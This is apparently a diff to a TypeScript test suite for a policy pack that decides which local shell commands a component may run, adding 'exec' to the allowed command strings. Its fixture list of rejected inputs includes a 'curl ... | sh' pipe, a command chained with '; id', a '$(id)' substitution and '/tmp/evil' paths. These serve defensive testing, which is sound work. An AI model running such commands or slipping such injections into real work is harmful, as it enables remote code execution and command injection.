@@ -22,7 +22,7 @@ const command = (props: Record<string, unknown>): Planted => ({
   type: "command:local:Command",
   provider: {},
   props: {
-    create: "sh cli/node.sh cli/main.ts collect --stdin --run a-1",
+    create: "exec sh cli/node.sh cli/main.ts collect --stdin --run a-1",
     stdin: JSON.stringify(settings),
     dir: ROOT,
     ...props,
@@ -54,8 +54,8 @@ describe("policy pack", () => {
       ...pods.map(asPod),
       command({}),
       command({
-        create: "sh cli/node.sh cli/main.ts export --stdin --json",
-        delete: "sh cli/node.sh cli/main.ts export --stdin --json --remove",
+        create: "exec sh cli/node.sh cli/main.ts export --stdin --json",
+        delete: "exec sh cli/node.sh cli/main.ts export --stdin --json --remove",
       }),
       ...admission({ ...allowedBy(settings), scripts: probeScripts(), sweep: true }).map((policy) => ({
         ...asPod(policy),
@@ -63,7 +63,7 @@ describe("policy pack", () => {
       })),
       command({
         create: undefined,
-        delete: "sh cli/node.sh cli/main.ts sweep --stdin --nodes-only",
+        delete: "exec sh cli/node.sh cli/main.ts sweep --stdin --nodes-only",
         logging: "stderr",
       }),
     ];
@@ -157,11 +157,11 @@ describe("policy pack", () => {
   describe("knows the component's commands from others", () => {
     const FOREIGN: Readonly<Record<string, Record<string, unknown>>> = {
       "another program": { create: "curl https://example.com | sh" },
-      "a second command behind it": { create: "sh cli/node.sh cli/main.ts sweep --stdin; id" },
-      "a substitution": { create: "sh cli/node.sh cli/main.ts collect --stdin --run $(id)" },
-      "an option that names another node": { create: "sh cli/node.sh cli/main.ts sweep --stdin --node k3s-w1" },
-      "another cluster": { create: "sh cli/node.sh cli/main.ts sweep --stdin --context prod" },
-      "settings of a stack": { create: "sh cli/node.sh cli/main.ts sweep --stack prod" },
+      "a second command behind it": { create: "exec sh cli/node.sh cli/main.ts sweep --stdin; id" },
+      "a substitution": { create: "exec sh cli/node.sh cli/main.ts collect --stdin --run $(id)" },
+      "an option that names another node": { create: "exec sh cli/node.sh cli/main.ts sweep --stdin --node k3s-w1" },
+      "another cluster": { create: "exec sh cli/node.sh cli/main.ts sweep --stdin --context prod" },
+      "settings of a stack": { create: "exec sh cli/node.sh cli/main.ts sweep --stack prod" },
       "another update": { update: "id" },
       "another directory": { dir: "/tmp/evil" },
       "an interpreter": { interpreter: ["/tmp/evil"] },
